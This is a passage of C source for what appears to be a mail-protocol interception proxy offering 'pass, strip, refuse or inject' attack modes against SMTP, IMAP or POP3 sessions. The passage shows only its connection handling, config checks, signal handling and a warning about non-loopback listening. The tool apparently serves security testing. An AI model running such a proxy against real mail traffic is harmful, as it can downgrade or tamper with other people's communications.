		if (prctl(PR_SET_PDEATHSIG, SIGTERM) < 0 || getppid() != parent)
			_exit(0);
		close(lfd);
		free(ch->pids);
		px_serve(cfg, cfd, id);
		close(cfd);
		px_logf(cfg->log, id, "== connection closed");
		_exit(0);
	}
	close(cfd);
	ch->pids = xrealloc(ch->pids, (ch->n + 1) * sizeof(*ch->pids));
	ch->pids[ch->n++] = pid;
}

/* Ends every child still running (by pid) and waits for each. */
static void
px_end_children(struct px_children *ch)
{
	for (size_t i = 0; i < ch->n; i++)
		kill(ch->pids[i], SIGTERM);
	for (size_t i = 0; i < ch->n; i++) {
		while (waitpid(ch->pids[i], NULL, 0) < 0 && errno == EINTR)
			;
	}
	free(ch->pids);
	ch->pids = NULL;
	ch->n = 0;
}

static int
px_check_config(const struct proxy_config *cfg, char **cause)
{
	if ((unsigned)cfg->proto >= PROTO_COUNT) {
		*cause = str_printf("unknown protocol; use smtp, imap or pop3");
		return -1;
	}
	if ((unsigned)cfg->attack >= PROXY_ATTACK_COUNT) {
		*cause = str_printf("unknown attack; use pass, strip, refuse or inject");
		return -1;
	}
	if (cfg->upstream_host == NULL || *cfg->upstream_host == '\0' ||
	    cfg->upstream_port == 0 || cfg->upstream_port > 65535) {
		*cause =
		    str_printf("the upstream server needs a host and a port (1-65535)");
		return -1;
	}
	if (cfg->listen_port > 65535) {
		*cause = str_printf("the listen port %u is out of range (0-65535)",
		                    cfg->listen_port);
		return -1;
	}
	return 0;
}

int
proxy_run(const struct proxy_config *cfg, char **cause)
{
	const char *host = cfg->listen_host ? cfg->listen_host : "127.0.0.1";
	char where[96];
	bool loopback = false;

	if (px_check_config(cfg, cause) < 0)
		return -1;
	conn_ignore_sigpipe();
	int lfd = px_listen(host, cfg->listen_port, where, sizeof(where), &loopback, cause);
	if (lfd < 0)
		return -1;
	px_logf(cfg->log, 0, "listening on %s, relaying to %s:%u (%s); attack %s: %s",
	        where, cfg->upstream_host, cfg->upstream_port, proto_info(cfg->proto)->name,
	        proxy_attack_name(cfg->attack), proxy_attack_text(cfg->attack));
	if (!loopback)
		px_logf(cfg->log, 0,
		        "warning: %s is not a loopback address: "
		        "anyone who can reach it can use this proxy",
		        where);

	struct sigaction sa = {.sa_handler = px_on_signal}, old_int, old_term, old_chld;
	sigset_t block, oldmask, waitmask;
	sigemptyset(&sa.sa_mask);
	sigemptyset(&block);
	sigaddset(&block, SIGINT);
	sigaddset(&block, SIGTERM);
	sigaddset(&block, SIGCHLD);
	sigprocmask(SIG_BLOCK, &block, &oldmask);
	sigaction(SIGINT, &sa, &old_int);
	sigaction(SIGTERM, &sa, &old_term);
	sigaction(SIGCHLD, &sa, &old_chld);
	waitmask = oldmask;
	sigdelset(&waitmask, SIGINT);
	sigdelset(&waitmask, SIGTERM);
	sigdelset(&waitmask, SIGCHLD);
	px_stop_signal = 0;

	struct px_children ch = {0};
	unsigned next_id = 1;
	while (px_stop_signal == 0) {
		struct pollfd pf = {.fd = lfd, .events = POLLIN};
		int n = ppoll(&pf, 1, NULL, &waitmask);
		px_reap(&ch);
		if (px_stop_signal != 0)
			break;
		if (n > 0 && (pf.revents & POLLIN))
			px_accept(cfg, lfd, next_id++, &ch, &oldmask);
	}
	close(lfd);
	px_logf(cfg->log, 0, "stopping on %s; ending %zu connection(s)",
	        px_stop_signal == SIGINT ? "SIGINT" : "SIGTERM", ch.n);
	px_end_children(&ch);

	sigaction(SIGINT, &old_int, NULL);
	sigaction(SIGTERM, &old_term, NULL);
	sigaction(SIGCHLD, &old_chld, NULL);
	sigprocmask(SIG_SETMASK, &oldmask, NULL);
	return 0;
}
